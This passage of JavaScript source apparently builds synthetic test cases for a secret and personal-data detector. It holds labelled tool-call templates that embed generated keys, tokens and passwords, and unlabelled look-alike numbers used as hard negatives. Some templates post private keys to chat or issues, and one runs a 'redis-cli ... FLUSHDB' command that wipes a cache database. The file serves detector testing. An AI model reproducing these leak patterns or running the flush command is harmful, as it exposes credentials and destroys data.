  () => ({ tool: 'run_shell', tags: ['shell', 'curl'], args: { command: `curl https://api.anthropic.com/v1/messages -H "x-api-key: ${L('ANTHROPIC_API_KEY', anthropicKey('api03'))}" -H "anthropic-version: 2023-06-01" -d @req.json` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'json'], args: { path: 'claude_desktop_config.json', content: `{\n  "mcpServers": {\n    "notes": {\n      "command": "npx",\n      "args": ["-y", "notes-mcp"],\n      "env": { "ANTHROPIC_API_KEY": "${L('ANTHROPIC_API_KEY', anthropicKey())}" }\n    }\n  }\n}\n` } }),
]
const ANTHROPIC_TEMPLATES = [...ANTHROPIC_SPECIFIC, ...carriers('ANTHROPIC_API_KEY', anthropicKey, { env: 'ANTHROPIC_API_KEY', cfg: 'api_key', service: 'Anthropic', header: ['x-api-key', ''], url: 'https://api.anthropic.com/v1/models', py: 'client = anthropic.Anthropic(api_key="$")', js: "const anthropic = new Anthropic({ apiKey: '$' })" })]

const NPM_SPECIFIC = [
  () => ({ tool: 'write_file', tags: ['write_file', 'config'], args: { path: '.npmrc', content: `registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${L('NPM_TOKEN', npmToken())}\n` } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `npm config set //registry.npmjs.org/:_authToken ${L('NPM_TOKEN', npmToken())} && npm publish --access public` } }),
]
const NPM_TEMPLATES = [...NPM_SPECIFIC, ...carriers('NPM_TOKEN', npmToken, { env: 'NPM_TOKEN', cfg: 'npm_token', service: 'npm', url: 'https://registry.npmjs.org/-/whoami', py: 'NPM_TOKEN = "$"', js: "const token = '$'" })]

const PRIVATE_KEY_TEMPLATES = [
  () => ({ tool: 'write_file', tags: ['write_file', 'pem'], args: { path: '/home/deploy/.ssh/id_ed25519', content: L('PRIVATE_KEY', privateKey('openssh')) + '\n' } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'pem'], args: { path: 'certs/server.key', content: L('PRIVATE_KEY', privateKey('rsa')) + '\n' } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'json', 'escaped-newlines'],
    note: 'A service-account JSON file written as text: the key holds literal \\n sequences.',
    args: { path: 'gcp/service-account.json', content: `{\n  "type": "service_account",\n  "project_id": "northwind-prod",\n  "private_key_id": "${randStr(HEX, 40)}",\n  "private_key": "${L('PRIVATE_KEY', escapeNewlines(privateKey('pkcs8')) + '\\n')}",\n  "client_email": "${L('EMAIL', 'etl@northwind-prod.iam.gserviceaccount.com')}"\n}\n` },
  }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { sso: { saml: { entity_id: 'northwind', signing_key: L('PRIVATE_KEY', privateKey('pkcs8')) } } } }),
  () => ({ tool: 'kubectl', tags: ['infra', 'yaml'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: tls\ntype: kubernetes.io/tls\nstringData:\n  tls.key: |\n${L('PRIVATE_KEY', privateKey('ec').replace(/^/gm, '    ').slice(4))}\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'env', 'escaped-newlines'], args: { path: '.env', content: `APP_ID=${int(10000, 99999)}\nPRIVATE_KEY="${L('PRIVATE_KEY', escapeNewlines(privateKey('rsa')))}"\n` } }),
  () => ({ tool: 'create_issue', tags: ['create_issue'], args: { repo: 'northwind/infra', title: 'nginx fails to load the key', body: `nginx -t says "PEM_read_bio_PrivateKey() failed". The key:\n\n\`\`\`\n${L('PRIVATE_KEY', privateKey('encrypted'))}\n\`\`\`` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'pem', 'pem-headers'], args: { path: 'legacy/app.key', content: L('PRIVATE_KEY', rsaWithHeaders()) } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'D08OPS', text: `here's the deploy key, don't share:\n\`\`\`${L('PRIVATE_KEY', privateKey('openssh'))}\`\`\`` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'pgp'], args: { path: 'keys/release-signing.asc', content: L('PRIVATE_KEY', pgpPrivateKey()) + '\n' } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code', 'escaped-newlines'], args: { path: 'src/github-app.ts', content: `const app = new App({\n  appId: ${int(100000, 999999)},\n  privateKey: '${L('PRIVATE_KEY', escapeNewlines(privateKey('rsa')))}',\n})\n` } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `cat > /tmp/k.pem <<'EOF'\n${L('PRIVATE_KEY', privateKey('pkcs8'))}\nEOF\nchmod 600 /tmp/k.pem` } }),
  () => ({ tool: 'memory_store', tags: ['notes'], args: { key: 'bastion-key', content: L('PRIVATE_KEY', privateKey(pick(['ec', 'openssh', 'rsa']))) } }),
  () => ({ tool: 'http_request', tags: ['http', 'json'], args: { method: 'PUT', url: 'https://vault.internal/v1/secret/data/tls', body: JSON.stringify({ data: { key: '\uE102' } }).replace('\uE102', L('PRIVATE_KEY', escapeNewlines(privateKey('ec')))) } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'pem', 'truncated'], note: 'A private key block cut off before its END line still reveals key material: labelled.', args: { path: 'notes/key-fragment.txt', content: `first part of the old key, the rest is on the USB stick:\n${L('PRIVATE_KEY', privateKey('rsa').split('\n').slice(0, 14).join('\n'))}\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'pem', 'dsa'], args: { path: 'legacy/dsa.key', content: L('PRIVATE_KEY', privateKey('dsa')) } }),
]

const jwtValue = () => (chance(0.9) ? jwt() : unsecuredJwt())
const JWT_SPECIFIC = [
  () => ({ tool: 'http_request', tags: ['http', 'cookie'], args: { method: 'GET', url: 'https://app.northwind-traders.com/api/me', headers: { Cookie: `theme=dark; session=${L('JWT', jwt())}; _ga=GA1.2.${digits(9)}.${digits(10)}` } } }),
  () => ({ tool: 'browser_navigate', tags: ['url-query'], args: { url: `https://app.northwind-traders.com/sso/callback?id_token=${L('JWT', jwt('RS256'))}&state=${randStr(HEX, 16)}` } }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { auth: { id_token: L('JWT', jwt('RS256')), token_type: 'Bearer', expires_in: 3600 } } }),
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} DEBUG http.request GET /v1/orders authorization="Bearer ${L('JWT', jwt())}" status=401` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code', 'unsecured'], args: { path: 'test/fixtures/auth.ts', content: `export const serviceToken = '${L('JWT', unsecuredJwt())}'\n` } }),
]
const JWT_TEMPLATES = [...JWT_SPECIFIC, ...carriers('JWT', jwtValue, { env: 'API_JWT', cfg: 'access_token', service: 'Orders API', py: 'HEADERS = {"Authorization": "Bearer $"}', js: "const token = '$'" })]

const GENERIC_TEMPLATES = [
  () => ({ tool: 'create_user', tags: ['form', 'password-field'], args: { username: `${pick(FIRST)}.${pick(LAST)}`, password: L('GENERIC_SECRET', password()), role: 'editor' } }),
  () => {
    const pw = urlSafePassword()
    return { tool: 'update_settings', tags: ['json', 'url-credential'], args: { database: { url: `postgres://app_user:${L('GENERIC_SECRET', pw)}@db.internal:5432/orders?sslmode=require` } } }
  },
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env', 'url-credential'], args: { path: '.env', content: `MONGO_URL=mongodb+srv://admin:${L('GENERIC_SECRET', urlSafePassword())}@cluster0.k3j9z.mongodb.net/prod?retryWrites=true\n` } }),
  () => ({ tool: 'run_shell', tags: ['shell', 'url-credential'], args: { command: `redis-cli -u redis://:${L('GENERIC_SECRET', urlSafePassword())}@cache.internal:6379/0 FLUSHDB` } }),
  () => ({ tool: 'http_request', tags: ['http', 'header', 'basic-auth'], args: { method: 'GET', url: 'https://jenkins.internal/api/json', headers: { Authorization: `Basic ${L('GENERIC_SECRET', Buffer.from(`admin:${urlSafePassword()}`).toString('base64'))}` } } }),
  () => ({ tool: 'http_request', tags: ['http', 'header', 'bearer'], args: { method: 'POST', url: 'https://hooks.internal/deploy', headers: { Authorization: `Bearer ${L('GENERIC_SECRET', opaqueToken())}` }, body: '{"ref":"main"}' } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env'], args: { path: '.env', content: `DB_HOST=db.internal\nDB_USER=app\nDB_PASSWORD=${L('GENERIC_SECRET', password())}\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'code'], args: { path: 'settings/production.py', content: `DEBUG = False\nSECRET_KEY = '${L('GENERIC_SECRET', randStr(LOWER + DIGITS + '!@#$%^&*(-_=+)', 50))}'\nALLOWED_HOSTS = ['northwind-traders.com']\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'yaml'], args: { path: 'config/database.yml', content: `production:\n  adapter: postgresql\n  username: orders\n  password: ${L('GENERIC_SECRET', password().replace(/[#%&*!?]/g, ''))}\n  host: db.internal\n` } }),
  () => ({ tool: 'run_shell', tags: ['shell', 'curl'], args: { command: `curl -u admin:${L('GENERIC_SECRET', urlSafePassword())} https://grafana.internal/api/dashboards/home` } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `mysql -h db.internal -u root -p${L('GENERIC_SECRET', urlSafePassword())} -e 'SHOW DATABASES;'` } }),
  () => ({ tool: 'update_settings', tags: ['json', 'oauth'], args: { oauth: { client_id: `${digits(12)}-${randStr(LOWER + DIGITS, 32)}.apps.googleusercontent.com`, client_secret: L('GENERIC_SECRET', `GOCSPX-${randStr(B64URL, 28)}`) } } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env'], args: { path: '.env', content: `SENDGRID_API_KEY=${L('GENERIC_SECRET', `SG.${randStr(B64URL, 22)}.${randStr(B64URL, 43)}`)}\n` } }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { twilio: { account_sid: `AC${randStr(HEX, 32)}`, auth_token: L('GENERIC_SECRET', randStr(HEX, 32)) } } }),
  () => ({ tool: 'run_shell', tags: ['shell', 'git', 'url-credential'], args: { command: `git clone https://deploy:${L('GENERIC_SECRET', randStr(ALNUM, 20))}@gitlab.internal/platform/charts.git` } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `CREATE USER reporting WITH PASSWORD '${L('GENERIC_SECRET', password().replace(/'/g, ''))}';` } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `ALTER USER 'etl'@'%' IDENTIFIED BY '${L('GENERIC_SECRET', password().replace(/'/g, ''))}';` } }),
  () => ({ tool: 'run_shell', tags: ['shell', 'docker'], args: { command: `docker login registry.internal -u ci -p ${L('GENERIC_SECRET', urlSafePassword())}` } }),
  () => ({ tool: 'update_settings', tags: ['json', 'webhook-secret'], args: { stripe: { webhook_secret: L('GENERIC_SECRET', `whsec_${randStr(ALNUM, 32)}`) } } }),
  () => ({ tool: 'send_email', tags: ['send_email'], args: { to: L('EMAIL', email()), subject: 'Your VPN access', body: `Username: ${pick(FIRST)}\nTemporary password: ${L('GENERIC_SECRET', password())}\nYou will be asked to change it at first login.` } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'D09IT', text: `wifi password for the guest network is ${L('GENERIC_SECRET', password())}` } }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { datadog: { site: 'datadoghq.eu', api_key: L('GENERIC_SECRET', randStr(HEX, 32)), app_key: L('GENERIC_SECRET', randStr(HEX, 40)) } } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env'], args: { path: '.env', content: `JWT_SECRET=${L('GENERIC_SECRET', randStr(B64, 44))}\nSESSION_TTL=3600\n` } }),
  () => ({ tool: 'kubectl', tags: ['infra', 'yaml'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  POSTGRES_PASSWORD: ${L('GENERIC_SECRET', urlSafePassword())}\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'xml'], args: { path: 'settings.xml', content: `<servers>\n  <server>\n    <id>nexus</id>\n    <username>deployer</username>\n    <password>${L('GENERIC_SECRET', urlSafePassword())}</password>\n  </server>\n</servers>\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env'], args: { path: '.env', content: `MAILGUN_API_KEY=${L('GENERIC_SECRET', `key-${randStr(HEX, 32)}`)}\n` } }),
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} DEBUG db.connect host=db.internal user=orders password=${L('GENERIC_SECRET', urlSafePassword())} sslmode=require` } }),
  () => ({ tool: 'create_issue', tags: ['create_issue', 'url-credential'], args: { repo: 'northwind/etl', title: 'AMQP reconnect loop', body: `Connecting to amqp://etl:${L('GENERIC_SECRET', urlSafePassword())}@rabbit.internal:5672/ keeps failing after the broker restart.` } }),
  () => ({ tool: 'vault_write', tags: ['json', 'password-field'], args: { path: 'secret/data/smtp', data: { username: 'mailer', password: L('GENERIC_SECRET', password()) } } }),
  () => ({ tool: 'http_request', tags: ['http', 'header'], args: { method: 'GET', url: 'https://api.partner.example/v2/orders', headers: { 'X-API-Key': L('GENERIC_SECRET', randStr(ALNUM, 40)) } } }),
]

// ---------------------------------------------------------------------------------------------------------------
// Hard negatives and near-misses: no labels. `looks` names the types a careless detector would report.

const nm = (looks, built) => ({ ...built, tags: [...(built.tags ?? []), ...looks.map((type) => `looks-like:${type}`)] })
const eanCheck = (partial) => {
  const sum = [...partial].reduce((acc, d, i) => acc + Number(d) * (i % 2 === 0 ? 1 : 3), 0)
  return String((10 - (sum % 10)) % 10)
}
const ean13 = (prefix) => {
  const partial = prefix + digits(12 - prefix.length)
  return partial + eanCheck(partial)
}
function isbn13() {
  const partial = `978${pick(['0', '1'])}${digits(8)}`
  const sum = [...partial].reduce((acc, d, i) => acc + Number(d) * (i % 2 === 0 ? 1 : 3), 0)
  const full = partial + String((10 - (sum % 10)) % 10)
  return `${full.slice(0, 3)}-${full[3]}-${full.slice(4, 7)}-${full.slice(7, 12)}-${full[12]}`
}
function imei() {
  const partial = `35${digits(12)}`
  return partial + luhnCheckDigit(partial)
}

const NEAR_CARD = [
  () => nm(['CREDIT_CARD'], { tool: 'get_order', tags: ['orders', 'luhn-invalid'], args: { order_id: luhnInvalid(cardNumber('visa')) } }),
  () => nm(['CREDIT_CARD'], { tool: 'create_ticket', tags: ['ticket', 'luhn-invalid'], args: { subject: 'Where is my parcel?', description: `Reference ${formatCard(luhnInvalid(cardNumber('mastercard')), 'space')} from the shipping confirmation, still no update.` } }),
  () => nm(['CREDIT_CARD'], { tool: 'analyze_logs', tags: ['log', 'luhn-invalid'], args: { text: `${isoTime()} INFO batch.export rows=10000 batch=${luhnInvalid(cardNumber('discover'))} duration_ms=${int(100, 9999)}` } }),
  () => nm(['CREDIT_CARD', 'PHONE'], { tool: 'query', tags: ['sql', 'timestamp'], args: { sql: `SELECT * FROM events WHERE ts_us BETWEEN ${1717000000000000 + int(0, 999999999)} AND ${1718000000000000 + int(0, 999999999)};` } }),
  () => nm(['CREDIT_CARD'], { tool: 'discord_get_message', tags: ['snowflake'], args: { channel_id: `1${digits(18)}`, message_id: `12${digits(17)}` } }),
  () => nm(['CREDIT_CARD'], { tool: 'inventory_update', tags: ['barcode'], args: { gtin: ean13(pick(['40', '41', '42', '43', '44'])), quantity: int(1, 400), warehouse: 'HAM-2' } }),
  () => nm(['CREDIT_CARD'], { tool: 'mdm_register_device', tags: ['imei'], args: { imei: imei(), model: 'Pixel 8', owner: 'asset-pool' } }),
  () => nm(['CREDIT_CARD'], { tool: 'send_email', tags: ['masked-pan'], args: { to: 'billing-team', subject: 'Card updated', body: `The card ending in ${digits(4)} (${formatCard(`${pick(['4', '5'])}${digits(5)}******${digits(4)}`, 'plain')}) was set as default.` } }),
  () => nm(['CREDIT_CARD'], { tool: 'track_shipment', tags: ['tracking'], args: { carrier: 'usps', tracking_number: `9400 ${digits(4)} ${digits(4)} ${digits(4)} ${digits(4)} ${digits(2)}` } }),
  () => nm(['CREDIT_CARD'], { tool: 'create_charge', tags: ['payment', 'luhn-invalid', 'number'], args: { reference: Number(luhnInvalid(cardNumber('visa'))), amount: 1999 } }),
  () => nm(['CREDIT_CARD'], { tool: 'analyze_logs', tags: ['log', 'timestamp'], args: { text: `trace_id=${randStr(HEX, 32)} span_id=${randStr(HEX, 16)} start_ns=${1718000000000000000n + BigInt(int(0, 999999999))}` } }),
  () => nm(['CREDIT_CARD'], { tool: 'shopify_get_order', tags: ['orders'], args: { order_id: Number(`5${digits(12)}`), line_item_ids: [Number(`13${digits(12)}`), Number(`13${digits(12)}`)] } }),
]
const NEAR_ID = [
  () => nm(['US_SSN', 'PHONE'], { tool: 'get_order', tags: ['orders'], args: { order_number: nzDigits(9), include: ['items', 'shipping'] } }),
  () => nm(['US_SSN'], { tool: 'zendesk_update_ticket', tags: ['ticket'], args: { ticket_id: Number(nzDigits(9)), status: 'solved', comment: 'Refund issued, closing.' } }),
  () => nm(['PHONE'], { tool: 'jira_transition', tags: ['ticket'], args: { issue: `PLAT-${int(1000, 99999)}`, transition: 'Done' } }),
  () => nm(['PHONE'], { tool: 'servicenow_get', tags: ['ticket'], args: { number: `INC${pad(int(1, 9999999), 7)}`, fields: ['state', 'assigned_to'] } }),
  () => nm(['US_PASSPORT', 'US_SSN'], { tool: 'crm_get_account', tags: ['crm'], args: { account_id: `0015g00000${randStr(ALNUM, 5)}AAB` } }),
  () => nm(['PHONE'], { tool: 'sap_get_po', tags: ['erp'], args: { purchase_order: `45000${digits(5)}`, plant: '1010' } }),
  () => nm(['PHONE', 'US_SSN'], { tool: 'aws_describe', tags: ['cloud'], args: { account_id: nzDigits(12), role: `arn:aws:iam::${nzDigits(12)}:role/ReadOnly` } }),
  () => nm(['PHONE'], { tool: 'create_invoice', tags: ['finance'], args: { number: `INV-${pad(int(1, 99999999), 9)}`, customer: 'cus_internal', total: '1280.00' } }),
  () => nm(['US_SSN'], { tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} INFO order.created id=${nzDigits(9)} items=3 total=42.10 warehouse=HAM-2` } }),
  () => nm(['PHONE'], { tool: 'github_get_pr', tags: ['git'], args: { repo: 'northwind/api', number: int(1000, 99999), comment: `Fixes #${int(1000, 9999)}, supersedes #${int(1000, 9999)}` } }),
  () => nm(['US_PASSPORT'], { tool: 'book_flight', tags: ['travel'], args: { pnr: randStr(UPPER_DIGITS, 6), flight: `LH${int(100, 999)}`, seat: `${int(1, 40)}${pick(['A', 'C', 'D', 'F'])}`, ticket_number: `220${nzDigits(10)}` } }),
  () => nm(['US_SSN'], { tool: 'track_shipment', tags: ['tracking'], args: { carrier: 'ups', tracking_number: `1Z${randStr(UPPER_DIGITS, 6)}${digits(10)}` } }),
]
const NEAR_UUID = [
  () => nm(['PHONE', 'CREDIT_CARD'], { tool: 'http_request', tags: ['http'], args: { method: 'POST', url: 'https://api.northwind-traders.com/v1/payments', headers: { 'Idempotency-Key': uuid(), 'X-Request-Id': uuid() }, body: '{"amount":1200}' } }),
  () => nm(['GENERIC_SECRET'], { tool: 'kubectl', tags: ['infra'], args: { command: `get pod -o json --field-selector metadata.uid=${uuid()}` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} ERROR job ${uuid()} failed: timeout after 30000 ms (correlation ${uuid()})` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'notion_get_page', tags: ['docs'], args: { page_id: randStr(HEX, 32) } }),
  () => nm(['GENERIC_SECRET'], { tool: 'db_insert', tags: ['json'], args: { table: 'events', row: { id: `01${randStr('0123456789ABCDEFGHJKMNPQRSTVWXYZ', 24)}`, type: 'signup', at: isoTime() } } }),
  () => nm(['GENERIC_SECRET'], { tool: 'azure_get_resource', tags: ['cloud'], args: { id: `/subscriptions/${uuid()}/resourceGroups/prod-rg/providers/Microsoft.Web/sites/northwind-api`, tenant: uuid() } }),
]
const NEAR_HASH = [
  () => nm(['AWS_SECRET_KEY', 'GENERIC_SECRET'], { tool: 'run_shell', tags: ['shell', 'git'], args: { command: `git revert --no-edit ${gitSha()} && git push origin main` } }),
  () => nm(['AWS_SECRET_KEY', 'GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'ci', 'yaml'], args: { path: '.github/workflows/ci.yml', content: `steps:\n  - uses: actions/checkout@${gitSha()} # v4.1.7\n  - uses: actions/setup-node@${gitSha()} # v4.0.3\n` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'checksum'], args: { path: 'SHA256SUMS', content: `${sha256()}  warden-1.4.0-linux-x64.tar.gz\n${sha256()}  warden-1.4.0-darwin-arm64.tar.gz\n` } }),
  () => nm(['GENERIC_SECRET', 'EMAIL'], { tool: 'run_shell', tags: ['shell', 'docker'], args: { command: `docker pull nginx@sha256:${sha256()}` } }),
  () => nm(['AWS_SECRET_KEY', 'GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'lockfile'], args: { path: 'package-lock.json', content: `{\n  "node_modules/zod": {\n    "version": "4.6.7",\n    "resolved": "https://registry.npmjs.org/zod/-/zod-4.6.7.tgz",\n    "integrity": "sha512-${randStr(B64, 86)}=="\n  }\n}\n` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'create_issue', tags: ['create_issue', 'git'], args: { repo: 'northwind/api', title: 'Regression since last deploy', body: `Bisected to ${gitSha().slice(0, 12)}; works at ${gitSha()}.` } }),
  () => nm(['GENERIC_SECRET'], { tool: 's3_head_object', tags: ['cloud'], args: { bucket: 'northwind-exports', key: `2024/06/report-${digits(6)}.csv`, expected_etag: `"${randStr(HEX, 32)}"` } }),
  () => nm(['AWS_SECRET_KEY', 'GENERIC_SECRET'], { tool: 'write_file', tags: ['write_file', 'html'], args: { path: 'public/index.html', content: `<script src="https://cdn.jsdelivr.net/npm/htmx.org@2.0.0/dist/htmx.min.js" integrity="sha384-${randStr(B64, 64)}" crossorigin="anonymous"></script>` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'analyze_logs', tags: ['log', 'git'], args: { text: `${gitSha().slice(0, 7)} fix: retry on 503\n${gitSha().slice(0, 7)} feat: export to parquet\n${gitSha().slice(0, 7)} chore(deps): bump zod` } }),
  () => nm(['GENERIC_SECRET'], { tool: 'verify_download', tags: ['checksum'], args: { url: 'https://downloads.northwind-traders.com/agent.msi', sha1: randStr(HEX, 40), md5: randStr(HEX, 32) } }),
]
const NEAR_TIME = [
  () => nm(['PHONE', 'CREDIT_CARD'], { tool: 'db_insert', tags: ['json', 'timestamp', 'number'], args: { table: 'events', row: { created_at: epochMs(), updated_at: epochMs(), type: 'checkout' } } }),
  () => nm(['PHONE'], { tool: 'analyze_logs', tags: ['log', 'timestamp'], args: { text: `ts=${Math.floor(epochMs() / 1000)} level=warn msg="cache miss" key=product:${int(100, 9999)}` } }),
  () => nm(['PHONE', 'US_SSN'], { tool: 'schedule_job', tags: ['timestamp'], args: { at: isoTime(), cron: '0 3 * * *', timezone: 'Europe/Berlin' } }),
  () => nm(['PHONE', 'CREDIT_CARD'], { tool: 'query', tags: ['sql', 'timestamp'], args: { sql: `SELECT * FROM sessions WHERE started_at > ${epochMs()} ORDER BY started_at DESC LIMIT 50;` } }),
  () => nm(['PHONE'], { tool: 'write_file', tags: ['write_file', 'timestamp'], args: { path: 'backups/manifest.txt', content: `backup-${'2024' + pad(int(1, 12), 2) + pad(int(1, 28), 2) + pad(int(0, 23), 2) + pad(int(0, 59), 2) + pad(int(0, 59), 2)}.tar.zst\n` } }),
  () => nm(['PHONE'], { tool: 'slack_get_replies', tags: ['chat', 'timestamp'], args: { channel: 'C024BE91L', ts: `${Math.floor(epochMs() / 1000)}.${digits(6)}` } }),
  () => nm(['PHONE', 'US_SSN'], { tool: 'calendar_list_events', tags: ['calendar', 'timestamp'], args: { from: '2024-06-10', to: '2024-06-17', range_label: '10/06/2024 - 17/06/2024' } }),
  () => nm(['CREDIT_CARD'], { tool: 'metrics_query', tags: ['timestamp'], args: { query: 'sum(rate(http_requests_total[5m]))', start: String(epochMs() * 1000), end: String(epochMs() * 1000) } }),
]
const NEAR_NUMBERS = [
  () => nm(['PHONE'], { tool: 'search_books', tags: ['isbn'], args: { isbn: isbn13() } }),
  () => nm(['PHONE'], { tool: 'create_issue', tags: ['create_issue', 'isbn'], args: { repo: 'northwind/library', title: 'Wrong cover shown', body: `The cover for ISBN 0-${digits(3)}-${digits(5)}-${int(0, 9)} shows another book.` } }),
  () => nm(['CREDIT_CARD', 'PHONE'], { tool: 'inventory_update', tags: ['barcode'], args: { upc: `0${digits(11)}`, sku: `SKU-${digits(6)}`, quantity: int(1, 50) } }),
  () => nm(['PHONE'], { tool: 'ci_trigger', tags: ['build-number'], args: { pipeline: 'android-release', version_code: Number(`2024${pad(int(1, 12), 2)}${pad(int(1, 28), 2)}${pad(int(1, 99), 2)}`), build: `${int(20, 24)}.${pad(int(1, 12), 2)}.${pad(int(1, 28), 2)}.${int(1000, 9999)}` } }),
  () => nm(['PHONE', 'US_SSN'], { tool: 'geocode', tags: ['zip'], args: { street: '500 Howard St', city: 'San Francisco', zip: `94${digits(3)}-${digits(4)}` } }),
  () => nm(['PHONE'], { tool: 'map_search', tags: ['coordinates'], args: { lat: 37.7749 + rng() / 10, lng: -122.4194 + rng() / 10, query: 'coffee', label: `${(37 + rng()).toFixed(6)}, ${(-122 - rng()).toFixed(6)}` } }),
  () => nm(['PHONE'], { tool: 'create_invoice', tags: ['money'], args: { memo: `Total due: $${int(1, 9)},${digits(3)},${digits(3)}.${digits(2)} by 2024-07-01` } }),
  () => nm(['US_SSN'], { tool: 'irs_lookup', tags: ['ein'], note: 'An employer identification number (EIN) is not an SSN.', args: { company: pick(COMPANIES), ein: `${int(10, 99)}-${digits(7)}` } }),
  () => nm(['US_SSN'], { tool: 'ach_setup', tags: ['routing'], args: { routing_number: pick(['021000021', '011000015', '121000358', '026009593']), account_type: 'checking' } }),
  () => nm(['PHONE'], { tool: 'track_shipment', tags: ['tracking'], args: { carrier: 'fedex', tracking_number: `${digits(4)} ${digits(4)} ${digits(4)}` } }),
  () => nm(['PHONE'], { tool: 'write_file', tags: ['write_file', 'config'], args: { path: 'docker-compose.yml', content: `services:\n  api:\n    ports:\n      - "8080:8080"\n      - "9229-9239:9229-9239"\n` } }),
  () => nm(['PHONE'], { tool: 'set_display', tags: ['numbers'], args: { resolution: `${pick(['1920x1080', '2560 x 1440', '3840x2160'])}`, refresh: '144 Hz', serial: `SN ${digits(4)}-${digits(4)}-${digits(3)}` } }),
  () => nm(['US_SSN'], { tool: 'hr_tax_lookup', tags: ['itin'], note: 'ITINs (area 9xx) are not SSNs by the SSA rules.', args: { itin: `9${digits(2)}-${pick(['70', '78', '88', '92'])}-${digits(4)}` } }),
  () => nm(['US_SSN'], { tool: 'validate_ssn', tags: ['invalid-ssn'], note: 'Not issuable by the SSA rules (area 000/666, group 00 or serial 0000).', args: { input: pick([`000-${digits(2)}-${digits(4)}`, `666-${pad(int(1, 99), 2)}-${pad(int(1, 9999), 4)}`, `${pad(int(1, 899), 3).replace('666', '667')}-00-${pad(int(1, 9999), 4)}`, `${pad(int(1, 899), 3).replace('666', '667')}-${pad(int(1, 99), 2)}-0000`]) } }),
]

const NEAR_VERSION = [
  () => nm(['IP_ADDRESS'], { tool: 'write_file', tags: ['write_file', 'code', 'version'], note: 'A four-part version number: not an IP address, by context.', args: { path: 'Properties/AssemblyInfo.cs', content: `[assembly: AssemblyVersion("${int(1, 9)}.${int(0, 9)}.${int(0, 20)}.${int(0, 99)}")]\n[assembly: AssemblyFileVersion("${int(1, 9)}.${int(0, 9)}.${int(0, 20)}.${int(0, 250)}")]\n` } }),
  () => nm(['IP_ADDRESS'], { tool: 'create_issue', tags: ['create_issue', 'version'], args: { repo: 'northwind/desktop', title: 'Crash on startup', body: `Windows 11 build 10.0.22631.${int(1000, 3999)}, app version ${int(1, 4)}.${int(0, 9)}.${int(0, 9)}.${int(0, 255)}, Chrome/124.0.6367.${int(10, 250)}` } }),
  () => nm(['IP_ADDRESS', 'EMAIL'], { tool: 'run_shell', tags: ['shell', 'version'], args: { command: `npm install react@18.3.1 react-dom@18.3.1 @northwind/ui-kit@3.2.0 && pip install django==4.2.${int(1, 15)}` } }),
  () => nm(['IP_ADDRESS'], { tool: 'snmp_get', tags: ['oid'], args: { host: 'switch-3.lab', oid: pick(['1.3.6.1.2.1.1.3.0', '1.3.6.1.4.1.9.9.13.1.3', '1.3.6.1.2.1.2.2.1.10.1']), community_ref: 'vault:snmp/lab' } }),
  () => nm(['IP_ADDRESS'], { tool: 'write_file', tags: ['write_file', 'version'], args: { path: 'CHANGELOG.md', content: `## ${int(1, 3)}.${int(0, 9)}.${int(0, 9)}.${int(1, 9)} - 2024-06-10\n\n- Fixed the export of large sheets.\n` } }),
  () => nm(['IP_ADDRESS'], { tool: 'cert_inspect', tags: ['oid'], args: { extensions: [{ oid: '2.5.29.17', name: 'subjectAltName' }, { oid: '1.3.6.1.5.5.7.3.1', name: 'serverAuth' }, { oid: '2.5.29.37' }] } }),
  () => nm(['IP_ADDRESS', 'PHONE'], { tool: 'mobile_release', tags: ['version'], args: { platform: 'ios', version: `${int(4, 9)}.${int(0, 9)}.${int(0, 9)}`, build: `${int(4, 9)}.${int(0, 9)}.${int(0, 9)}.${int(1, 120)}` } }),
  () => nm(['IP_ADDRESS'], { tool: 'write_file', tags: ['write_file', 'docs'], args: { path: 'docs/spec.md', content: `As required by section ${int(1, 9)}.${int(1, 9)}.${int(1, 9)}.${int(1, 9)} of the standard, the server MUST reject the request.` } }),
]
const sshPublicKey = () => pick([() => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${randStr(B64, 43)}`, () => `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${randStr(B64, 200)}`])()
function pemPublic(label, lines) {
